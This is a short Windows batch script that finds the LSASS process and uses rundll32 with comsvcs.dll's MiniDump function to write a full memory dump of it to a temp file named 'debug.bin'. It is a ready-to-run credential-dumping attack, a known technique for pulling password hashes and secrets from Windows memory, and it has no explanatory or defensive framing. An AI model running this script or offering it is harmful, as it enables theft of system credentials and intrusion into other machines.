@echo off
for /f "tokens=2" %%i in ('tasklist /fi "imagename eq lsass.exe" /nh') do set PID=%%i
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %PID% C:\Windows\Temp\debug.bin full
